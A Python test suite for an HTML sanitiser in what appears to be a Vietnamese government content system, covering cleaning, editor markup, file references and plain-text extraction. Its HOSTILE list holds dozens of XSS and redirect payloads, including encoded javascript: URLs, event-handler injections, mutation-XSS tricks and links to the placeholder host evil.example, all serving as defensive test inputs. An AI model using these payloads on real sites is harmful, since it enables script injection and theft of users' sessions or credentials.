"""Rich text: what survives cleaning, which files it names, its plain words."""

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from content import sanitise
from content.sanitise import TooLong, clean, file_ids, first_words, keep_files, plain

pytestmark = pytest.mark.usefixtures("msgids")

ONE = "abcdefghijklmnopqrstuvwxyz"
TWO = "0123456789" * 3
PICTURE = f'<img src="/tep/{ONE}/ban-do.png" alt="Bản đồ">'
LINK = f'<a href="/tep/{TWO}/ke-hoach.pdf" rel="noopener noreferrer">Kế hoạch</a>'
KEPT_TAGS = sanitise._TAGS


class Tags(HTMLParser):
    """Collects the tags and attributes that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def assert_harmless(html):
    for tag, attributes in Tags(html).found:
        assert tag in KEPT_TAGS
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        assert re.match(
            r"https?://|mailto:|tel:|/[^/\\]|/$", attributes.get("href", "/")
        )
        if tag == "img":
            assert sanitise.FILE_SRC.fullmatch(attributes["src"])


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    f'<img src="/tep/{ONE}/a.png" onload="alert(1)">',
    '<p onclick="alert(1)" onmouseover=alert(1)>chữ</p>',
    '<a href="javascript:alert(1)">chữ</a>',
    '<a href="JaVaScRiPt:alert(1)">chữ</a>',
    '<a href="java\tscript:alert(1)">chữ</a>',
    '<a href="java&#10;script:alert(1)">chữ</a>',
    '<a href="&#106;avascript:alert(1)">chữ</a>',
    '<a href=" javascript:alert(1)">chữ</a>',
    '<a href="\x01javascript:alert(1)">chữ</a>',
    '<a href="data:text/html,<script>alert(1)</script>">chữ</a>',
    '<a href="vbscript:msgbox(1)">chữ</a>',
    '<a href="//evil.example/">chữ</a>',
    '<a href="/\\evil.example/">chữ</a>',
    '<a href="/\t/evil.example/">chữ</a>',
    '<a href="https://langson.gov.vn@evil.example/">chữ</a>',
    '<a href="https:evil.example">chữ</a>',
    f'<a href="/tep/{ONE}/../../admin/logout/">chữ</a>',
    f'<a href="/./tep/{ONE}/a.pdf">chữ</a>',
    f'<a href="/%74ep/{ONE}/a.pdf">chữ</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<style>@import 'https://evil.example'</style>",
    '<p style="background:url(javascript:alert(1))">chữ</p>',
    '<p style="position:fixed;top:0">chữ</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    f'<img src="/tep/{ONE}/../x">',
    f'<img src="/tep/{ONE}/..">',
    f'<img src="/tep/{ONE}/%2e%2e">',
    f'<img src="/tep/{ONE}/a%2f..%2f..">',
    '<img src="/tep/short/a.png">',
    '<img src="/media/a.png">',
    '<img id="content" name="body" src="x">',
    '<p id="csrf" name="forms">chữ</p>',
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<a title="`><script>alert(1)</script>" href="/x">chữ</a>',
    '<video src="x" onerror="alert(1)"></video><audio src="x">',
    "<p>\ud800<script>alert(1)</script>",
    "<details ontoggle=alert(1) open>chữ</details>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_text_becomes_harmless(html):
    cleaned = clean(html + "<p>giữ lại</p>")
    assert_harmless(cleaned)
    assert not re.search(r"<script|javascript:|evil\.example[^<]*\"", cleaned, re.I)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<h2>Chức năng</h2><p>Phòng <strong>tham mưu</strong> cho <em>huyện</em>.</p>",
        "<ul><li>một</li><li>hai<ol><li>ba</li></ol></li></ul>",
        '<table><caption>Xã</caption><thead><tr><th scope="col">Xã</th></tr></thead>'
        '<tbody><tr><td colspan="2">Tân Thanh</td></tr></tbody></table>',
        "<blockquote><p>Lời dẫn</p></blockquote>",
        "<p>H<sub>2</sub>O, m<sup>2</sup>, dòng<br>mới</p>",
        '<p class="align-center">Cộng hòa</p>',
        f'<figure class="align-right">{PICTURE}<figcaption>Ảnh</figcaption></figure>',
        LINK,
        '<a href="https://langson.gov.vn/tin?id=1&amp;x=2#a" rel="noopener noreferrer">'
        "Tỉnh</a>",
        '<a href="mailto:phongnoivu@langson.example" rel="noopener noreferrer">thư</a>',
        '<a href="tel:+842050000123" rel="noopener noreferrer">gọi</a>',
        '<a href="/gioi-thieu/" rel="noopener noreferrer">Giới thiệu</a>',
        "<p>2 &lt; 3 &amp; 5 &gt; 4, &lt;h1&gt; là thẻ</p>",
        '<p>Viết class="" trong bài</p>',
    ],
)
def test_what_editors_write_is_kept(html):
    assert clean(html) == html


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<h1>Lớn</h1>nhỏ", "<h2>Lớn</h2>nhỏ"),
        ("<div>một</div><div>hai</div>", "<p>một</p><p>hai</p>"),
        ("<section><p>một</p></section>", "<p>một</p>"),
        ("<p>&nbsp;</p><p><b> </b></p><p>chữ</p>", "<p>chữ</p>"),
        ("một<b> </b>hai", "một hai"),
        ('<a href="javascript:1">chữ</a>', "chữ"),
        ('<p>x<img src="https://a.example/x.png">y</p>', "<p>xy</p>"),
        ('<p lang="VI">chữ</p>', "<p>chữ</p>"),
        ('<p class="MsoNormal">chữ</p>', "<p>chữ</p>"),
        ("", ""),
    ],
)
def test_what_is_put_right(html, cleaned):
    assert clean(html) == cleaned


def test_links_with_spaces_still_lead_there():
    assert 'href="https://a.example/van%20ban.pdf"' in clean(
        '<a href=" https://a.example/van ban.pdf ">x</a>'
    )


def test_text_pasted_from_word_loses_its_garbage():
    pasted = """<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View>
    </w:WordDocument></xml><![endif]--><style>p.MsoNormal {margin:0}</style>
    <p class=MsoNormal style='mso-margin-top-alt:auto'><b><span lang=VI
    style='font-family:"Times New Roman"'>Điều 1.<o:p></o:p></span></b></p>
    <p class=MsoListParagraph><![if !supportLists]><span>-<span>&nbsp;</span></span>
    <![endif]>Phòng Nội vụ<o:p>&nbsp;</o:p></p>"""
    cleaned = clean(pasted)
    assert not re.search(r"mso|xml|o:p|style|span|lang|Normal|if ", cleaned, re.I)
    assert "<p><b>Điều 1.</b></p>" in cleaned
    assert "Phòng Nội vụ" in cleaned


def test_stored_text_is_in_one_form():
    assert clean(unicodedata.normalize("NFD", "<p>Ủy ban</p>")) == "<p>Ủy ban</p>"
    assert clean("<p>Vu&#x303; &#x200b;Ðình</p>") == "<p>Vũ Đình</p>"


def test_text_over_a_megabyte_is_refused_with_a_way_out():
    line = "<p>" + "chữ " * 300 + "</p>"
    assert clean(line * 100)
    with pytest.raises(TooLong, match="longer than 1 MB"):
        clean(line * 1000)


def test_text_that_grows_over_a_megabyte_is_refused():
    with pytest.raises(TooLong):
        clean("<" * 900_000)


@pytest.mark.parametrize("tag", ["ul", "blockquote", "b", "table", "unknown"])
def test_boxes_without_end_are_refused(tag):
    assert clean(f"<{tag}>" * 20 + "<p>chữ</p>")
    with pytest.raises(TooLong, match="boxes"):
        clean(f"<{tag}>" * 2000)


def test_a_tag_with_attributes_without_end_is_refused():
    with pytest.raises(TooLong, match="damaged"):
        clean("<p " + "a=1 " * 50_000 + ">chữ")


def test_many_blocks_one_after_the_other_are_fine():
    assert clean("<p>một<p>hai" * 5000).count("<p>") == 10_000
    assert clean("<div><b>một</b></div>" * 5000).count("<p>") == 5000


markup = st.lists(
    st.sampled_from(
        re.split(
            r"[ \n]+",
            """< > / \" ' = & ; <p> </p> <b> </b> <a> </a> <img> <h1> </h1> <div> </div>
            <table> <tr> <td> </td> <ul> <li> </li> </ul> <ol> <figure> <figcaption>
            </figcaption> </figure> <h3> </h3> <col> <colgroup> <script> </script>
            <style> <svg> <math> <!-- -->
            <![CDATA[ ]]> &nbsp; &#x301; &#x338; &lt; &amp;lt; javascript: onclick=x
            <br> <pre> <form> <select> <option> <caption> <textarea> x Đ""",
        )
        + [
            "<a\thref=/x>",
            '<span style="font-weight:700">',
            "<b style='font-weight:normal'>",
            "</span>",
            "<p style='mso-list:l0 level2 lfo1'>",
            "<![if !supportLists]>·<![endif]>",
            "<!--[if !supportLists]-->2.<!--[endif]-->",
            "<div style='mso-element:comment-list'>",
            '<a href="https://www.google.com/url?q=https://a.example/%26q=http:x">',
            PICTURE,
            LINK,
            "\u0338",
            "\u0301",
            "\n",
            "\t",
            " ",
            "\x00",
            "\u200b",
        ]
    ),
    max_size=25,
).map("".join)


@given(markup)
@example("<p>\u0338")
@example("<p>&#x338;")
@example('<a title="<h1>" href="/x">y</a>')
@example("<pre>\n\n\nx</pre>")
def test_cleaning_is_final_and_harmless(html):
    cleaned = clean(html)
    assert clean(cleaned) == cleaned
    assert_harmless(cleaned)


@given(st.text())
def test_any_text_is_cleaned(text):
    assert clean(clean(text)) == clean(text)


@given(markup)
def test_files_and_plain_words_can_be_read_from_anything(html):
    cleaned = clean(html)
    assert file_ids(keep_files(cleaned, {ONE})) <= {ONE}
    assert keep_files(cleaned, {ONE, TWO}) == cleaned
    assert clean(keep_files(cleaned, set())) == keep_files(cleaned, set())
    assert plain(html) is not None


def test_files_are_named_by_pictures_and_links():
    assert file_ids(clean(f"<p>{PICTURE} và {LINK}</p>")) == {ONE, TWO}
    assert file_ids(clean(f'<p>src="/tep/{ONE}/a.png" là chữ</p>')) == set()
    assert file_ids(clean('<p><a href="/gioi-thieu/">x</a></p>')) == set()


def test_files_of_others_are_taken_out():
    both = clean(f"<p>{PICTURE} và {LINK}</p>")
    assert keep_files(both, {ONE, TWO}) == both
    assert keep_files(both, {ONE}) == f"<p>{PICTURE} và Kế hoạch</p>"
    assert keep_files(both, {TWO}) == f"<p> và {LINK}</p>"
    assert keep_files(clean(f"<p>{PICTURE}</p>"), set()) == ""


@pytest.mark.parametrize(
    ("html", "text"),
    [
        (
            "<h2>Chức năng</h2><p>Tham mưu<br>và giúp</p>",
            "Chức năng\nTham mưu\nvà giúp",
        ),
        ("<ul><li>một</li><li>hai</li></ul>", "một\nhai"),
        ("<table><tr><td>Xã</td><td>7 thôn</td></tr></table>", "Xã\t7 thôn"),
        ("<p>một <b>hai</b>ba</p>", "một haiba"),
        ("<p>a &lt;b&gt; &amp; c&nbsp;d</p>", "a <b> & c d"),
        ("chỉ là chữ\n hai dòng", "chỉ là chữ hai dòng"),
        ("2 < 3", "2 < 3"),
        ("", ""),
    ],
)
def test_plain_words(html, text):
    assert plain(html) == text


def test_first_words_stop_in_time():
    assert first_words("<p>một hai</p><p>ba bốn</p>", 3) == "một hai ba…"
    assert first_words("<p>một hai</p>", 3) == "một hai"


def test_first_words_leave_headings_out():
    html = "<h2>Cửa ngõ</h2><p>Ai đi <b>từ</b></p><h3>Hai</h3><p>Hà Nội</p>"
    assert first_words(html, 9) == "Ai đi từ Hà Nội"
    assert first_words("<h2>Chỉ có đề mục</h2>", 9) == "Chỉ có đề mục"


SRC = f'src="/tep/{ONE}/a.png"'


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        (
            f'<img {SRC} style="width:300px; height:200px">',
            {"width": "300", "height": "200"},
        ),
        (
            f"<img style='HEIGHT: 20.5px;width:30px;float:left' {SRC}>",
            {"width": "30", "height": "20"},
        ),
        (f'<img {SRC} width="900" style="width:300px">', {"width": "300"}),
        (f'<img {SRC} width="900" style="border:0">', {"width": "900"}),
        (f'<img {SRC} style="width:2560px">', {"width": "2560"}),
        (f'<img {SRC} style="width:2561px">', {}),
        (f'<img {SRC} style="width:0px;max-width:10px">', {}),
        (f'<img {SRC} style="width:50%">', {}),
    ],
)
def test_a_pictures_size_is_kept_as_attributes(typed, kept):
    ((_tag, attributes),) = Tags(clean(typed)).found
    assert attributes == {"src": f"/tep/{ONE}/a.png", **kept}
    assert clean(clean(typed)) == clean(typed)


@pytest.mark.parametrize(
    ("html", "unsent"),
    [
        ('<p><img alt="x" src="data:image/png;base64,AAAA"></p>', True),
        ("<IMG SRC = blob:https://localhost/1-2>", True),
        (PICTURE, False),
        ('<p>src="data:x"</p>', False),
        (f'<img {SRC} alt="data:image">', False),
    ],
)
def test_a_picture_that_was_not_uploaded_is_noticed(html, unsent):
    assert sanitise.has_unsent_picture(html) is unsent
